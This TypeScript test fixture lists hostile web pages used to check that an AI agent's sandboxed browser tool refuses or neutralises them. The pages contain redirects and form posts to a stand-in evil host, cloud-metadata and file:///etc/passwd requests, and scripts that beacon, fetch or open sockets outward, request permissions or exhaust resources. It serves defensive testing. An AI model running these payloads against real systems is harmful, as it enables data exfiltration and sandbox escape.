import { type Attack, hosts } from "../attack.ts";

const { cdn, evil } = hosts;
const away = `https://${evil}/`;

const to = (location: string) => () => new Response(null, { status: 302, headers: { location } });
const clicks = (name: string) => [{ tool: "browser_click", args: { target: name } }];
const page = (html: string) => () => new Response(`<!doctype html><title>Further</title><h1>Further</h1>${html}`, { headers: { "content-type": "text/html" } });

/** Ways by which a page leads the browser on; the model presses what it is told to press. */
const hops: readonly Attack[] = [
  { id: "HOP-01", group: "hops", orders: clicks("link Next"), html: '<a href="r">Next</a>', paths: { r: to(away) }, expects: "refused" },
  { id: "HOP-03", group: "hops", orders: clicks("link Next"), html: '<a href="r">Next</a>', paths: { r: to(`https://${cdn}/back`) }, expects: "refused" },
  {
    id: "HOP-04",
    group: "hops",
    orders: clicks("link Next"),
    html: '<a href="r">Next</a>',
    paths: { r: to(`https://${hosts.app}:8443/`) },
    expects: "refused",
  },
  { id: "HOP-05", group: "hops", orders: clicks("link Next"), html: '<a href="r">Next</a>', paths: { r: to("http://169.254.169.254/") }, expects: "refused" },
  { id: "HOP-08", group: "hops", orders: clicks("link Next"), html: '<a href="r">Next</a>', paths: { r: to("s"), s: to("r") }, expects: "refused" },
  {
    id: "HOP-10",
    group: "hops",
    orders: clicks("link Next"),
    html: '<a href="r">Next</a>',
    paths: { r: page(`<meta http-equiv="refresh" content="0;url=${away}">`) },
    expects: "refused",
  },
  { id: "HOP-11", group: "hops", orders: clicks("button Go on"), html: `<button onclick="location.replace('${away}')">Go on</button>`, expects: "refused" },
  { id: "HOP-12", group: "hops", orders: clicks("button Go on"), html: `<button onclick="window.open('${away}')">Go on</button>`, expects: "refused" },
  { id: "HOP-12", group: "hops", orders: clicks("link Next"), html: `<a href="${away}" target="_blank" rel="opener">Next</a>`, expects: "refused" },
  {
    id: "HOP-13",
    group: "hops",
    orders: clicks("button Send"),
    html: `<form method="post" action="${away}"><input type="hidden" name="a" value="1"><button>Send</button></form>`,
    expects: "refused",
  },
  {
    id: "HOP-13",
    group: "hops",
    orders: clicks("button Send"),
    html: `<form><input type="hidden" name="a" value="1"><button formaction="${away}">Send</button></form>`,
    expects: "refused",
  },
  {
    id: "HOP-14",
    group: "hops",
    orders: [],
    html: `<iframe src="${away}"></iframe><object data="${away}"></object><embed src="${away}"><iframe srcdoc="<iframe src='${away}'></iframe>"></iframe>`,
    expects: "inert",
  },
  {
    id: "HOP",
    group: "hops",
    orders: clicks("link Next"),
    html: '<a href="r">Next</a>',
    paths: { r: to("s"), s: page("<p>Arrived.</p>") },
    expects: "allowed",
  },
];

/** What the script of a page does by itself. */
const script = (code: string) => `<p id="said"></p><script>${code}</script>`;
const network: readonly Attack[] = [
  {
    id: "NET-01",
    group: "network",
    orders: [],
    html: script(
      `for (const mode of ["cors", "no-cors"]) fetch("${away}", { mode, keepalive: true }).catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "${away}"); x.send(); navigator.sendBeacon("${away}", "x")`,
    ),
    expects: "inert",
  },
  {
    id: "NET-03",
    group: "network",
    orders: [],
    html: script(`new WebSocket("wss://${evil}/").onerror = () => {}; new Worker(URL.createObjectURL(new Blob(['new WebSocket("wss://${evil}/")'])))`),
    expects: "inert",
  },
  { id: "NET-04", group: "network", orders: [], html: script(`new EventSource("${away}").onerror = () => {}`), expects: "inert" },
  {
    id: "NET-05",
    group: "network",
    orders: [],
    html: script(`navigator.serviceWorker?.register("sw").catch(() => {})`),
    paths: { sw: () => new Response(`self.addEventListener("install", () => fetch("${away}"))`, { headers: { "content-type": "text/javascript" } }) },
    expects: "inert",
  },
  {
    id: "NET-09",
    group: "network",
    orders: [],
    html: script(
      `try { new RTCPeerConnection({ iceServers: [{ urls: "stun:${evil}:3478" }] }).createOffer({ offerToReceiveAudio: true }) } catch {} try { new (document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection)() } catch {}`,
    ),
    expects: "inert",
  },
  {
    id: "NET-11",
    group: "network",
    orders: [],
    html:
      ["dns-prefetch", "preconnect", "prefetch", "prerender", "modulepreload"].map((rel) => `<link rel="${rel}" href="https://ge4dcmbr.${evil}/">`).join("") +
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${away}"]}]}</script>`,
    expects: "inert",
  },
  { id: "NET-12", group: "network", orders: [], html: `<script src="https://${cdn}/part.js"></script>`, expects: "inert" },
  {
    id: "NET",
    group: "network",
    orders: [],
    html: script(`fetch("data").then((answer) => answer.text()).then((text) => { document.getElementById("said").textContent = text })`),
    paths: { data: () => new Response("A part of its own.") },
    asks: "data",
    expects: "allowed",
  },
];

const surface: readonly Attack[] = [
  {
    id: "SBX-01",
    group: "surface",
    orders: clicks("link Next"),
    html: `<a href="file:///etc/passwd">Next</a>${script('fetch("file:///etc/passwd").catch(() => {})')}<iframe src="file:///etc/passwd"></iframe>`,
    expects: "refused",
  },
  {
    id: "SBX-02",
    group: "surface",
    orders: clicks("button Choose"),
    html: `<button onclick="const i = document.createElement('input'); i.type = 'file'; i.click()">Choose</button>`,
    expects: "inert",
  },
  {
    id: "SBX-05",
    group: "surface",
    orders: [],
    html: script(
      `navigator.geolocation.getCurrentPosition(() => fetch("leaked"), () => {}); Notification.requestPermission(); navigator.mediaDevices?.getUserMedia({ video: true }).then(() => fetch("leaked"), () => {}); navigator.clipboard?.readText().then(() => fetch("leaked"), () => {})`,
    ),
    expects: "inert",
  },
];

const resources: readonly Attack[] = [
  {
    id: "RES-06",
    group: "resources",
    orders: clicks("button Go on"),
    html: `<button onclick="for (let i = 0; i < 1000; i++) window.open('/ok?' + i)">Go on</button>`,
    expects: "inert",
  },
  {
    id: "RES-10",
    group: "resources",
    orders: clicks("button Go on"),
    html: `<button onclick="setInterval(() => history.pushState({}, '', '?' + Math.random()), 0)">Go on</button>`,
    expects: "inert",
  },
  { id: "RES-04", group: "resources", orders: clicks("button Go on"), html: `<button onclick="while (true);">Go on</button>`, expects: "refused" },
];

export const pageAttacks: readonly Attack[] = [...hops, ...network, ...surface, ...resources];
